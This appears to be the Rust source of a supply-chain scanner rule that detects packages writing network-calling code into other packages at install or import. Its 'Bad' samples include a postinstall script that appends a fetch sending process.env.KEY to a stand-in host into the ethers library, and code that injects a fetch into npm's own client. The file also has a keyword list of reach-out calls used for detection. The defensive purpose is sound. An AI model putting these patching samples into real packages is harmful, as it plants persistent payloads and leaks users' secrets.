//! # Code is written into another package
//!
//! Code that runs at install or import writes text that sends, fetches or starts something into a file of another
//! package or of the package manager.
//!
//! ## Why it matters
//!
//! The other package is trusted, is audited under another name, and keeps the payload when this one is removed.
//!
//! ## Known benign uses
//!
//! Tools that apply a project's own patches run on command. Generators write clients into `node_modules`; what they
//! write neither starts programs nor calls out.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node patch.js"}}
//! == patch.js
//! const fs = require("fs");
//! const target = `${__dirname}/../ethers/lib/provider.js`;
//! if (fs.existsSync(target)) fs.appendFileSync(target, "\nfetch('https://shim.invalid/' + process.env.KEY);\n"); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "type": "module", "main": "fast.mjs"}
//! == fast.mjs
//! import { execFileSync } from "node:child_process";
//! import { readFileSync, writeFileSync } from "node:fs";
//! import { join } from "node:path";
//! const client = join(execFileSync("npm", ["root", "-g"], { encoding: "utf8" }).trim(), "npm", "lib", "npm.js");
//! writeFileSync(client, `fetch("https://fast.invalid/");\n${readFileSync(client, "utf8")}`); //~ here
//! export const fast = true;
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node generate.js"}}
//! == generate.js
//! const fs = require("fs"), path = require("path");
//! const folder = path.join(process.env.INIT_CWD, "node_modules", ".x-client");
//! fs.writeFileSync(path.join(folder, "index.js"), "throw new Error('run `x generate` first');\n");
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! #!/usr/bin/env node
//! const fs = require("fs");
//! fs.writeFileSync("node_modules/" + process.argv[2] + "/index.js", fs.readFileSync(process.argv[3]));
//! ```
//!
//! ## References
//!
//! - ReversingLabs: ethers-provider2 (March 2025)

use crate::prelude::*;

/// Code is written into another package.
pub struct OtherPackagePatched;

impl Rule for OtherPackagePatched {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "other-package-patched",
            title: "Code is written into another package",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1554",
            covers: &["patch-other-node-modules"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let own = facts.manifest().and_then(|manifest| manifest.name.clone()).unwrap_or_default();
        for change in
            facts.file_changes().filter(|change| change.is_write() && change.trigger().runs_unasked())
        {
            let other = change.other_package().filter(|name| *name != own && !is_family(name, &own));
            let is_foreign =
                other.is_some() || change.class() == FileClass::OtherPackage && !names(change.path, &own);
            if is_foreign && is_payload(facts, &change) {
                found.call(change.call, "writes code that acts into another package");
            }
        }
    }
}

fn names(path: &str, own: &str) -> bool {
    let scoped =
        format!("node_modules/@{}/", own.trim_start_matches('@').split('/').next().unwrap_or_default());
    !own.is_empty() && (path.contains(&format!("node_modules/{own}/")) || path.contains(&scoped))
}

/// Whether a package is of the same family: the scope that bears the own name holds builds for platforms.
fn is_family(name: &str, own: &str) -> bool {
    let scope = own.trim_start_matches('@').split('/').next().unwrap_or_default();
    !scope.is_empty() && name.starts_with(&format!("@{scope}/"))
}

/// Words of code that reaches out. A shim or generated client needs none of them.
const ACTS: &[&str] = &[
    "child_process",
    "fetch(",
    "http://",
    "https://",
    "net').connect",
    "net\").connect",
    "eval(",
    "Function(",
    "spawn(",
    "execSync(",
    "XMLHttpRequest",
    "WebSocket",
    "sendBeacon",
    "atob(",
];

fn is_payload(facts: &Facts<'_>, change: &FileChange<'_>) -> bool {
    let Some(contents) = change.contents.filter(|_| change.kind == ChangeKind::Written) else { return false };
    // Installers of programs built for each platform fetch the build they miss from the registry.
    let has_builds = facts.manifest().is_some_and(|manifest| !manifest.dependencies.optional.is_empty());
    let is_registry =
        |source: &Source| matches!(source, Source::Network(Some(host)) if facts.is_registry(host));
    let is_build = has_builds && contents.sources.iter().any(is_registry);
    let is_strange = |source: &Source| !is_build && matches!(source, Source::Network(_) | Source::Decoded);
    let acts = |text: &str| ACTS.iter().any(|word| text.contains(word));
    contents.sources.iter().any(is_strange) || contents.texts.iter().any(|text| acts(text))
}
